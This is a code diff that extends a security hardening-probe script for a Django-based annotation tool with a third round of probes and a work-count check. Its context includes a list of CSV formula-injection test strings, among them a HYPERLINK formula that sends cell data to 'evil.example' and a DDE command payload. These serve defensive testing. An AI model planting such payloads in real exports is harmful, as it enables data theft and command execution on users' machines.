@@ -22,10 +22,13 @@ import sys
 import tempfile
 from collections import defaultdict
 from datetime import timedelta
+from functools import partial
 from pathlib import Path
 
 CODE = Path(os.environ.get("PROBE_CODE_DIR", Path(__file__).resolve().parent.parent))
 sys.path.insert(0, str(CODE))
+from hardening_round3 import ROUND3  # noqa: E402 - the script's folder, beside this file
+
 PROLIFIC_STUDY = "64f0c0ffee0000000000beef"
 ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"a")', "+cmd|' /C calc'!A0", "-2+3", "=cmd"]
 
@@ -1004,8 +1007,8 @@ def main(argv: list[str] | None = None) -> int:
     parser.add_argument(
         "--only",
         default="",
-        help="comma-separated probe names (e.g. probe_crowd_originals) or 'round2' for the "
-        "issue 22 probes; default: all",
+        help="comma-separated probe names (e.g. probe_crowd_originals), 'round2' for the "
+        "issue 22 probes or 'round3' for issue 38's; default: all",
     )
     args = parser.parse_args(argv)
     setup_django(tempfile.mkdtemp(prefix="intruder-probe-"))
@@ -1022,10 +1025,18 @@ def main(argv: list[str] | None = None) -> int:
               probe_interrupted_import, probe_annotation_csv, probe_crowd_work,
               probe_model_in_request, probe_newer_importers, probe_attack_run_api,
               probe_writer_close, probe_uploads_and_jobs, probe_small_things]  # fmt: skip
+    # round 3 (issue 38): each probe takes `case`, in its own module
+    round3 = [partial(probe, case) for probe in ROUND3]
+    for probe, bound in zip(ROUND3, round3, strict=True):
+        bound.__name__ = probe.__name__
+    probes += round3
     if args.only:
         wanted = set(args.only.split(","))
         if "round2" in wanted:
-            wanted |= {p.__name__ for p in probes[probes.index(probe_crowd_originals) :]}
+            first, last = probes.index(probe_crowd_originals), probes.index(probe_small_things)
+            wanted |= {p.__name__ for p in probes[first : last + 1]}
+        if "round3" in wanted:
+            wanted |= {p.__name__ for p in round3}
         probes = [p for p in probes if p.__name__ in wanted]
     for probe in probes:
         try:
@@ -1041,6 +1052,9 @@ def main(argv: list[str] | None = None) -> int:
         for category, cases in sorted(results.items(), key=lambda kv: int(kv[0].split()[0]))
         if category[0].isdigit()
     } | {k: v for k, v in results.items() if not k[0].isdigit()}
+    from benchmarks.did_work import require_work
+
+    require_work("hardening_probe", cases=sum(len(cases) for cases in results.values()))
     for category, row in table.items():
         if isinstance(row, dict):
             print(f"{category:40s} tried {row['tried']:3d}  failed {row['failed']:3d}")
